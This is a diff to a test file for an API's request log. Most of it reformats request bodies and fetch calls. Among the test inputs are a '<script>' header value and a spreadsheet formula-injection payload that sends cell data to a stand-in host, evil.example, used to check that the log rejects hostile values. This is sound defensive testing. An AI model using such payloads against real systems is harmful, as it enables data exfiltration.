@@ -72,8 +72,18 @@ describe(`the request log (${backend})`, () => {
         headers: { 'content-type': 'application/json', 'x-api-key': keys.market },
         body: JSON.stringify({
           items: [
-            { type: 'RoleAppointed', sourceRecordId: 'r-1', subject: { kind: 'enterprise', code: enterpriseCode(7), name: '某公司' }, data: { role: 'legal-representative', person: { idNumber: MISTYPED_PERSON, name: '张三' }, from: '2020-01-01' } },
-            { type: 'PenaltyDecided', sourceRecordId: 'p-1', subject: { kind: 'natural-person', code: PERSON, name: '张三' }, data: { decisionNumber: PERSON } },
+            {
+              type: 'RoleAppointed',
+              sourceRecordId: 'r-1',
+              subject: { kind: 'enterprise', code: enterpriseCode(7), name: '某公司' },
+              data: { role: 'legal-representative', person: { idNumber: MISTYPED_PERSON, name: '张三' }, from: '2020-01-01' },
+            },
+            {
+              type: 'PenaltyDecided',
+              sourceRecordId: 'p-1',
+              subject: { kind: 'natural-person', code: PERSON, name: '张三' },
+              data: { decisionNumber: PERSON },
+            },
           ],
         }),
       }),
@@ -92,9 +102,13 @@ describe(`the request log (${backend})`, () => {
   });
 
   it('answers X-Request-Id on every response, taking a sane one from the request, and logs the same id', async () => {
-    const given = await fetch(`${base}/v1/subjects/${enterpriseCode(8)}/measures`, { headers: { 'x-api-key': keys.market, 'x-request-id': 'gateway-42:a.b_c' } });
+    const given = await fetch(`${base}/v1/subjects/${enterpriseCode(8)}/measures`, {
+      headers: { 'x-api-key': keys.market, 'x-request-id': 'gateway-42:a.b_c' },
+    });
     expect(given.headers.get('x-request-id')).toBe('gateway-42:a.b_c');
-    const insane = await fetch(`${base}/v1/subjects/${enterpriseCode(8)}/measures`, { headers: { 'x-api-key': keys.market, 'x-request-id': `${'x'.repeat(129)}` } });
+    const insane = await fetch(`${base}/v1/subjects/${enterpriseCode(8)}/measures`, {
+      headers: { 'x-api-key': keys.market, 'x-request-id': `${'x'.repeat(129)}` },
+    });
     const generated = insane.headers.get('x-request-id');
     expect(generated).toMatch(/^[0-9a-f-]{36}$/);
     const refused = await fetch(`${base}/v1/subjects/${enterpriseCode(8)}/measures`, { headers: { 'x-request-id': 'a b<script>' } });
@@ -119,7 +133,14 @@ describe(`the request log (${backend})`, () => {
         method: 'POST',
         headers: { 'content-type': 'application/json', 'x-api-key': keys.market, 'x-correlation-id': correlationId },
         body: JSON.stringify({
-          items: [{ type: 'RoleAppointed', sourceRecordId, subject: { kind: 'enterprise', code: enterpriseCode(9), name: '某公司' }, data: { role: 'legal-representative', person: { idNumber: PERSON, name: '张三' }, from: '2020-01-01' } }],
+          items: [
+            {
+              type: 'RoleAppointed',
+              sourceRecordId,
+              subject: { kind: 'enterprise', code: enterpriseCode(9), name: '某公司' },
+              data: { role: 'legal-representative', person: { idNumber: PERSON, name: '张三' }, from: '2020-01-01' },
+            },
+          ],
         }),
       });
     for (const bad of ['x'.repeat(15_000), '=HYPERLINK("http://evil.example/?leak="&B2;"open")']) {
